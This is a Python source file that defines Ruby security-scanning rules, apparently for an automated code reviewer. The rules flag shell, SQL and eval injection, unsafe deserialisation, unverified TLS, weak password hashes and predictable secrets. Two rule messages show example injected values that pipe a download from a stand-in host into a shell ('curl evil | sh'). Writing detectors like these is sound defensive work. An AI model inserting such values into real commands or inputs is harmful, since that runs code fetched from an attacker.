"""Ruby that lets a stranger do more than they may, with or without Rails."""

import re

from ast_grep_py import SgNode

from core.analyzers.rules import sql
from core.analyzers.rules.interpolation import pieces, values_in
from core.analyzers.rules.ruby.nodes import (
    FUNCTIONS,
    comes_from_request,
    first_argument,
    invoked,
    stands_alone,
)
from core.analyzers.rules.rule import UNGUESSABLE, Rule, children_of, enclosing, field_text
from core.models import Category, Severity

_OWN = re.compile(
    r"(?i:escape|quote)|Shellwords|Gem\.ruby|RbConfig|__dir__|__FILE__|Rails\.root|\.to_i\b|\$\$|\.pid\b"
    r"|^[A-Z][A-Z0-9_:]*$|^\d+$"
)
"""Values of the program itself, or made harmless for a shell."""
_FROM_OUTSIDE = r"\bparams\b|\bcookies\b|\brequest\b|decode64|redis|\bcache\b|\.body\b|socket|queue"


def _is_foreign(value: str) -> bool:
    return _OWN.search(value) is None


def _runs_a_shell_line(node: SgNode) -> bool:
    """Judge a line given to a shell: backquotes, or a call whose only argument is a string."""
    if node.kind() == "subshell":
        return any(_is_foreign(value) for value in values_in(node))
    given = [
        a for a in children_of(node, "arguments") if a.kind() not in {"pair", "block_argument"}
    ]
    if len(given) == 2 and given[0].kind() == "hash":
        given = given[1:]
    alone = len(given) == 1 or field_text(node, "method") == "popen"
    own = stands_alone(node) or field_text(node, "receiver") in {"IO", "Open3", "Process"}
    if not (given and alone and own) or given[0].kind() not in {"string", "binary"}:
        return False
    texts = [piece for piece in pieces(given[0]) if isinstance(piece, str)]
    return bool(texts) and any(_is_foreign(value) for value in values_in(given[0]))


def _runs_given_text(call: SgNode) -> bool:
    return comes_from_request(first_argument(call))


def _comes_from_outside(call: SgNode) -> bool:
    text = field_text(call, "arguments")
    return "Marshal.dump" not in text and re.search(_FROM_OUTSIDE, text) is not None


def _opens_what_is_given(call: SgNode) -> bool:
    """Tell whether `open` without a receiver gets an address or a visitor's value."""
    first = first_argument(call)
    if first is None or not stands_alone(call):
        return False
    named = re.fullmatch(r"@?\w*(?:url|uri|link|href)\w*", first.text()) is not None
    return comes_from_request(first) or (named and not first.text().isupper())


def _hashes_a_password(call: SgNode) -> bool:
    return re.search(r"(?i)passw(?:or)?d|passphrase", field_text(call, "arguments")) is not None


def _makes_a_secret(call: SgNode) -> bool:
    holder = enclosing(call, "assignment", "operator_assignment", "pair", *FUNCTIONS)
    if holder is None:
        return False
    name = field_text(holder, "left") or field_text(holder, "key") or field_text(holder, "name")
    return re.search(UNGUESSABLE, name) is not None


RULES: tuple[Rule, ...] = (
    Rule(
        id="sql-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title=sql.TITLE,
        body=sql.BODY,
        match={
            "any": [
                {"kind": "string", "has": {"kind": "interpolation"}},
                {"kind": "heredoc_body", "has": {"kind": "interpolation"}},
                {"kind": "binary", "has": {"regex": "^[+%]$"}},
            ]
        },
        keep=sql.builds_sql,
        outside_tests=True,
        needs=sql.NEEDS,
    ),
    Rule(
        id="shell-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A shell interprets a value that is put into its command",
        body=(
            "A value such as `x; curl evil | sh` becomes a second command. Give the program and "
            "each argument on its own, `system('tar', 'xf', file)`: then there is no shell. Where "
            "one is needed, use `Shellwords.escape`."
        ),
        match={
            "any": [
                {"kind": "subshell", "has": {"kind": "interpolation"}},
                invoked("system|exec|spawn|popen|capture2e?|capture3|popen3"),
            ]
        },
        keep=_runs_a_shell_line,
        outside_tests=True,
        needs=r"#\{|\+",
    ),
    Rule(
        id="eval-of-request",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A visitor's value chooses the code that runs",
        body=(
            "With `send`, `eval` or `constantize` a request can call any method or load any class: "
            "`send('system', …)` runs a command. Look the value up in a list of what is allowed."
        ),
        match=invoked(
            "eval|instance_eval|class_eval|module_eval|send|public_send|__send__|const_get"
        ),
        keep=_runs_given_text,
        outside_tests=True,
        needs=r"\b(?:params|request|cookies)\b",
    ),
    Rule(
        id="object-deserialised",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="Data from outside builds any object it names",
        body=(
            "`Marshal.load` and unsafe YAML create the classes that the data names, and known "
            "chains of them end in a command. Use JSON or `YAML.safe_load`."
        ),
        match={
            "any": [
                invoked("load|restore", r"^(?:::)?Marshal$"),
                invoked("unsafe_load", r"^(?:YAML|Psych)$"),
            ]
        },
        keep=_comes_from_outside,
        outside_tests=True,
        needs=r"\bMarshal\b|unsafe_load",
    ),
    Rule(
        id="open-of-address",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="`open` runs a command when the value starts with `|`",
        body=(
            "`Kernel#open` takes `|curl evil | sh` for a command, and any path for a file. Use "
            "`URI.parse(value).open` after a look at its scheme and host, or `File.open`."
        ),
        match=invoked("open"),
        keep=_opens_what_is_given,
        outside_tests=True,
        needs=r"\bopen\b",
    ),
    Rule(
        id="tls-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The server's certificate is not verified",
        body=(
            "Anyone on the way can answer in the server's place, read what is sent and change the "
            "reply. For a private authority set `ca_file`, and leave verification on."
        ),
        match={
            "any": [
                {
                    "kind": "assignment",
                    "all": [
                        {"has": {"field": "left", "regex": r"\.verify_mode$"}},
                        {"has": {"field": "right", "regex": r"^[\w:]*\bVERIFY_NONE$"}},
                    ],
                },
                {
                    "kind": "pair",
                    "regex": r"^:?(?:ssl_)?verify_mode(?::|\s*=>)\s*[\w:]*\bVERIFY_NONE$",
                },
                {
                    "kind": "pair",
                    "regex": r"^:?ssl\b",
                    "has": {
                        "kind": "hash",
                        "has": {"kind": "pair", "regex": r"^:?verify(?::|\s*=>)\s*false$"},
                    },
                },
                {
                    "kind": "pair",
                    "regex": r"^:?verify(?:_ssl)?(?::|\s*=>)\s*false$",
                    "inside": {
                        "kind": "argument_list",
                        "inside": {
                            "kind": "call",
                            "has": {"field": "receiver", "regex": r"(?i)http|rest_?client|faraday"},
                        },
                    },
                },
            ]
        },
        outside_tests=True,
        needs=r"VERIFY_NONE|verify",
    ),
    Rule(
        id="weak-password-hash",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A fast hash protects a password",
        body=(
            "Graphics cards try billions of these hashes a second, so a stolen table gives the "
            "passwords back within hours. Use `BCrypt::Password.create` or `has_secure_password`."
        ),
        match=invoked(
            "hexdigest|digest|base64digest", r"^(?:OpenSSL::)?Digest::(?:MD5|SHA1|SHA256|SHA512)$"
        ),
        keep=_hashes_a_password,
        outside_tests=True,
        needs=r"Digest::",
    ),
    Rule(
        id="guessable-secret",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A secret comes from a predictable generator",
        body=(
            "The state of `rand` can be computed from its outputs, and with it the tokens of other "
            "people. Use `SecureRandom.hex` or `SecureRandom.alphanumeric`."
        ),
        match={
            "any": [
                invoked("rand", r"^(?:Random|Kernel)$"),
                {
                    "kind": "call",
                    "has": {"field": "method", "regex": "^rand$"},
                    "not": {"has": {"field": "receiver", "regex": "."}},
                },
                {"kind": "identifier", "regex": "^rand$", "not": {"inside": {"kind": "call"}}},
            ]
        },
        keep=_makes_a_secret,
        outside_tests=True,
        needs=r"\brand\b",
    ),
)
